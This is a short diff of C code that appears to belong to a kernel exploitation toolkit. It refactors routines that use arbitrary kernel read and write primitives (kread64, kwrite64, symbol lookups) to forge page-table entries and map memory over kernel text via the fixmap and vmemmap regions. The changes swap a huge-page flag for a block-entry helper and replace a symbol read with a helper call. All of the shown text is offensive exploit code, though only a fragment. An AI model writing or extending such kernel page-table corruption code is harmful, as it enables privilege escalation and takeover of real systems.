@@ -6,8 +6,6 @@
 #include "attack.h"
 #include "list.h"
 
-#define FIXMAP_BASE	0xffffffffff400000UL	/* of its lowest page table */
-
 static enum outcome map_text_at(uint64_t addr, uint64_t slot, int level)
 {
 	uint64_t size = level == LEVEL_PTE ? PAGE_SIZE : PMD_SIZE;
@@ -17,7 +15,7 @@ static enum outcome map_text_at(uint64_t addr, uint64_t slot, int level)
 	int err;
 
 	if (level != LEVEL_PTE)
-		value |= PTE_HUGE;
+		value = pte_block(value);
 	err = kwrite64(slot, value);
 	if (err)
 		return lost("the new entry was refused: %d", err);
@@ -49,7 +47,7 @@ enum outcome fixmap_pte(void)
 
 enum outcome vmemmap_table(void)
 {
-	uint64_t base = kread64(ksymbol("vmemmap_base"));
+	uint64_t base = memory_map_base();
 
 	return map_text_in_table(base, LEVEL_PMD, PMD_SIZE);
 }
